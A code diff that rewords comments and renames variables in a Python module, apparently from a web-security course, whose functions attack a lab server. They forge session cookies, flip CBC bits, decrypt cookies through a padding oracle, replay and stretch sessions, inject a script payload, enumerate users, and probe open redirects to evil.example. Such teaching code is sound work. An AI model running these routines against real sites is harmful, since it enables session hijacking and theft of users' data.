@@ -1,7 +1,7 @@
-"""The attacks of the notebooks: each works on one stage, and fails on the next.
+"""The attacks of the notebooks: each works on one stage and fails on the next.
 
-Those over HTTP are given the server's `url` and know no more than any visitor. What they
-return is what they got: something false where they got nothing.
+An attack over HTTP gets the server's `url`, and knows only what any visitor knows. It returns
+what it got, or something false if it got nothing.
 """
 
 from __future__ import annotations
@@ -27,7 +27,7 @@ _PATIENCE = 60  # seconds
 
 @dataclass(frozen=True)
 class Outcome:
-    """Whether an attack worked, and what was seen; true if it did."""
+    """Whether an attack worked, and what the attacker saw; true if it worked."""
 
     worked: bool
     story: str
@@ -40,7 +40,7 @@ class Outcome:
 
 
 def open_with_published_secret(value: str) -> dict[str, Any] | None:
-    """Read a cookie with the secret that the course page prints."""
+    """Open a cookie with the secret from the course page; return None if it does not open."""
     try:
         return unseal(value, derive_keys(PAGE_SECRET)).content
     except BadCookie:
@@ -48,9 +48,9 @@ def open_with_published_secret(value: str) -> dict[str, Any] | None:
 
 
 def enter_with_published_secret(url: str) -> Outcome:
-    """Make a cookie for a user who does not exist, and ask for the dashboard with it."""
+    """Seal a cookie for a user that does not exist, and request the dashboard with it."""
     boss = {"user": {"userName": "boss", "email": "boss@example.com"}}
-    # It lasts as long as its maker likes.
+    # The forger chooses the lifetime.
     forged = seal(boss, derive_keys(PAGE_SECRET), duration=100 * 365 * 24 * 3_600_000)
     answer = _ask(url, "/dashboard", forged)
     if "Hello boss" in answer.text:
@@ -59,21 +59,21 @@ def enter_with_published_secret(url: str) -> Outcome:
 
 
 def forge_plain(url: str, message: str = "admin") -> Outcome:
-    """Write a session in the clear, with a message of our own, and have the server read it."""
+    """Write an unencrypted session with a message of our own, and let the server read it."""
     forged = to_base64(json.dumps({"message": message}).encode())
-    return _told(_message(url, forged), message, "with a cookie that we wrote")
+    return _outcome(_message(url, forged), message, "with a cookie that we wrote")
 
 
 def flip_bits(url: str, old: str = "user", new: str = "root") -> Outcome:
-    """Turn one message into another of the same length, in a cookie we cannot read.
+    """Replace a message by another of the same length, in a cookie that we cannot read.
 
-    The JSON begins ``{"message":"``, twelve bytes, so the first four letters of the message
-    end the first block; mixing the IV with the difference of the two words mixes the
-    decrypted block with it too.
+    The JSON begins with ``{"message":"``, twelve bytes, so the first four letters of the
+    message end the first block. To decrypt that block, CBC XORs it with the IV. So XORing the
+    IV with the difference of the two words changes the decrypted word in the same way.
     """
-    browser = Visitor()
-    _ask(url, f"/session-test-add?message={quote(old)}", browser=browser)
-    value = browser.cookies["session"]
+    client = Visitor()
+    _ask(url, f"/session-test-add?message={quote(old)}", client=client)
+    value = client.cookies["session"]
     iv, dot, rest = value.partition(".")
     changed = bytearray(from_base64(iv))
     start = len('{"message":"')
@@ -81,16 +81,17 @@ def flip_bits(url: str, old: str = "user", new: str = "root") -> Outcome:
         if place < len(changed):
             changed[place] ^= a ^ b
     read = _message(url, f"{to_base64(bytes(changed))}{dot}{rest}")
-    return _told(read, new, f"with the cookie of {old!r}, and bits of it flipped")
+    return _outcome(read, new, f"with the cookie of {old!r}, and bits of it flipped")
 
 
 def read_by_padding(
     value: str, padding_is_good: Callable[[str], bool], *, last: int | None = None
 ) -> bytes:
-    """Read the end of a plaintext by asking one question often: is this padding good?
+    """Read the end of a plaintext by asking one question many times: is this padding good?
 
-    `value` begins ``iv.ciphertext``; the rest is sent along as it is. Returns the `last`
-    bytes of the plaintext, or all of it, padding included; as many as could be told.
+    `value` begins with ``iv.ciphertext``; its other fields are sent unchanged. Returns the
+    last `last` bytes of the plaintext, or all of it, with the padding. If the answers stop
+    making sense, it returns the bytes found until then.
     """
     iv, ciphertext, *rest = value.split(".")
     raw = from_base64(iv) + from_base64(ciphertext)
@@ -99,9 +100,9 @@ def read_by_padding(
     def good(before: bytes, block: bytes) -> bool:
         return padding_is_good(".".join([to_base64(before), to_base64(block), *rest]))
 
-    # A padding ends in 1 to 16, so of these at most one is good.
+    # Padding ends in a byte from 1 to 16, so at most one of these two is good.
     if all(good(bytes([high]) * _BLOCK, blocks[-1]) for high in (0, 0x80)):
-        return b""  # everything is good: the answers tell nothing
+        return b""  # every padding is called good: the answers reveal nothing
 
     found = b""
     while len(blocks) > 1 and (last is None or len(found) < last):
@@ -117,22 +118,22 @@ def read_by_padding(
 def _read_block(
     before: bytes, block: bytes, good: Callable[[bytes, bytes], bool], most: int
 ) -> bytes:
-    """Read up to `most` bytes from a block's end; `before` is the block ahead of it.
+    """Read up to `most` bytes from the end of a block; `before` is the block before it.
 
-    CBC mixes what the cipher gives for a block with the block before. So for each byte
-    there is one value of the byte before it that makes valid padding of it.
+    CBC XORs each block that the cipher decrypted with the block before it. So for each byte,
+    exactly one value of the byte at the same place in that block gives valid padding.
     """
-    cipher_gave = bytearray(_BLOCK)
+    decrypted = bytearray(_BLOCK)
     for place in range(_BLOCK - 1, _BLOCK - 1 - most, -1):
         size = _BLOCK - place
-        attempt = bytearray(b ^ size for b in cipher_gave)
+        attempt = bytearray(b ^ size for b in decrypted)
         attempt[:place] = bytes(place)
         guess = next((g for g in range(256) if _fits(attempt, place, g, block, good)), None)
         if guess is None:
             most = size - 1
             break
-        cipher_gave[place] = guess ^ size
-    plain = bytes(a ^ b for a, b in zip(cipher_gave, before, strict=True))
+        decrypted[place] = guess ^ size
+    plain = bytes(a ^ b for a, b in zip(decrypted, before, strict=True))
     return plain[_BLOCK - most :]
 
 
@@ -148,60 +149,60 @@ def _fits(
         return False
     if place == 0:
         return True
-    # It may be good as longer padding, by chance: then it is not once the byte ahead changes.
+    # By chance it may be good as longer padding, which a change of the byte before breaks.
     other = bytearray(attempt)
     other[place - 1] ^= 0xFF
     return good(bytes(other), block)
 
 
 def server_says_padding_is_good(url: str) -> Callable[[str], bool]:
-    """Return the question for `read_by_padding`, put to a server: does it answer 500?"""
-    browser = Visitor()
+    """Return the question for `read_by_padding`: does the server answer other than 500?"""
+    client = Visitor()
 
     def ask(value: str) -> bool:
         headers = {"Cookie": f"session={value}"}
-        answer = browser.get(f"{url}/session-test-read", headers=headers, timeout=_PATIENCE)
+        answer = client.get(f"{url}/session-test-read", headers=headers, timeout=_PATIENCE)
         return answer.status_code != 500
 
     return ask
 
 
 def stay_forever(url: str, log_in: dict[str, str], clock: Clock) -> Outcome:
-    """Copy a cookie, and use it every 50 seconds for an hour: is it still good then?"""
+    """Copy a cookie and use it every 50 seconds for an hour: does it still log the thief in?"""
     victim, thief = Visitor(), Visitor()
     victim.post(f"{url}/login", data=log_in, timeout=_PATIENCE)
     thief.cookies.update(victim.cookies)
     for _ in range(72):
         clock.advance(timedelta(seconds=50))
-        answer = _ask(url, "/dashboard", browser=thief)
+        answer = _ask(url, "/dashboard", client=thief)
     inside = "Hello" in answer.text
-    return Outcome(inside, f"after an hour the thief is {'in' if inside else 'out'}")
+    return Outcome(inside, f"after an hour the thief is logged {'in' if inside else 'out'}")
 
 
 def stretch(url: str, clock: Clock) -> Outcome:
-    """Write another duration into a cookie: does its session outlive the day?"""
-    browser = Visitor()
-    _ask(url, "/session-test-add?message=still here", browser=browser)
-    fields = browser.cookies["session"].split(".")
+    """Write a longer duration into a cookie: does it still open a day later?"""
+    client = Visitor()
+    _ask(url, "/session-test-add?message=still here", client=client)
+    fields = client.cookies["session"].split(".")
     fields[3] = str(10 * 365 * 24 * 3_600_000)
     clock.advance(timedelta(days=1))
-    return _told(_message(url, ".".join(fields)), "still here", "a day later")
+    return _outcome(_message(url, ".".join(fields)), "still here", "a day later")
 
 
 def script_in_message(url: str) -> Outcome:
-    """Send a victim a link with a script in it; does it come back as a script?"""
+    """Send a victim a link with a script in it: does the page return it as a script?"""
     script = "<script>alert('mine now')</script>"
     victim = Visitor()
-    _ask(url, f"/session-test-add?message={quote(script)}", browser=victim)
-    answer = _ask(url, "/session-test-read", browser=victim).text
+    _ask(url, f"/session-test-add?message={quote(script)}", client=victim)
+    answer = _ask(url, "/session-test-read", client=victim).text
     what = answer.partition("session message: ")[2]
     return Outcome(script in answer, f"the victim's browser gets {what}")
 
 
 def find_users(url: str, names: Iterable[str]) -> set[str]:
-    """Return those names that a log-in with a wrong password answers in another way.
+    """Return the names of users: a login with a wrong password answers them differently.
 
-    Another than a name that surely nobody has.
+    The comparison is the answer to a name that no user has.
     """
 
     def answer(name: str) -> str:
@@ -209,13 +210,13 @@ def find_users(url: str, names: Iterable[str]) -> set[str]:
         return Visitor().post(f"{url}/login", data=form, timeout=_PATIENCE).text
 
     nobody = "nobody-has-this-name"
-    # A page may repeat the name: that alone tells nothing.
+    # A page may repeat the name; that alone reveals nothing.
     usual = answer(nobody)
     return {name for name in names if answer(name) != usual.replace(nobody, name)}
 
 
 def forced_browsing(url: str, paths: Iterable[str]) -> set[str]:
-    """Return those paths that answer a visitor who has not logged in."""
+    """Return the paths that answer 200 to a visitor who has not logged in."""
 
     def status(path: str) -> int:
         answer = Visitor().get(f"{url}{path}", allow_redirects=False, timeout=_PATIENCE)
@@ -224,8 +225,8 @@ def forced_browsing(url: str, paths: Iterable[str]) -> set[str]:
     return {path for path in paths if status(path) == 200}
 
 
-#: What leads a browser to another host: a whole address, and what browsers take for one.
-#: (Flask writes the backslash as %5C, and so takes the third one's sting out.)
+#: Locations that lead a browser to another host: a full URL, and what browsers read as one.
+#: (Flask writes the backslash as %5C, which makes the third one harmless.)
 ELSEWHERE = (
     "https://evil.example/",
     "//evil.example/",
@@ -235,7 +236,7 @@ ELSEWHERE = (
 
 
 def open_redirect(url: str, log_in: dict[str, str]) -> set[str]:
-    """Return those of `ELSEWHERE` to which a log-in with ``?next=`` sends the visitor."""
+    """Return the locations of `ELSEWHERE` to which a login with ``?next=`` redirects."""
     return {target for target in ELSEWHERE if _sent_away(url, log_in, target)}
 
 
@@ -243,30 +244,30 @@ def _sent_away(url: str, log_in: dict[str, str], target: str) -> bool:
     address = f"{url}/login?next={quote(target, safe='')}"
     answer = Visitor().post(address, data=log_in, allow_redirects=False, timeout=_PATIENCE)
     location = answer.headers.get("Location", "")
-    # Browsers strip tabs and read a backslash as a slash; not so %09 and %5C.
+    # Browsers remove tabs and read a backslash as a slash, but not %09 and %5C.
     read = location.replace("\t", "").replace("\\", "/")
     return urlsplit(read).netloc not in ("", urlsplit(url).netloc)
 
 
 def _ask(
-    url: str, path: str, value: str | None = None, *, browser: requests.Session | None = None
+    url: str, path: str, value: str | None = None, *, client: requests.Session | None = None
 ) -> requests.Response:
     headers = {} if value is None else {"Cookie": f"session={value}"}
-    return (browser or Visitor()).get(f"{url}{path}", headers=headers, timeout=_PATIENCE)
+    return (client or Visitor()).get(f"{url}{path}", headers=headers, timeout=_PATIENCE)
 
 
 def _seen(answer: requests.Response) -> str:
-    """What a visitor sees of an answer and of the redirect before it."""
+    """Return a description of a response, or of the redirect before it."""
     if answer.history:
         return f"is sent to {answer.history[-1].headers['Location']}"
     return f"is answered {answer.status_code}"
 
 
 def _message(url: str, value: str) -> str:
-    """What the server reads as the message of a session, or its status."""
+    """Return the message that the server reads in a session, or a note with its status."""
     answer = _ask(url, "/session-test-read", value)
     return answer.text.partition("session message: ")[2] or f"nothing, {answer.status_code}"
 
 
-def _told(read: str, wanted: str, how: str) -> Outcome:
+def _outcome(read: str, wanted: str, how: str) -> Outcome:
     return Outcome(read == wanted, f"{how}, the server reads {read!r}")
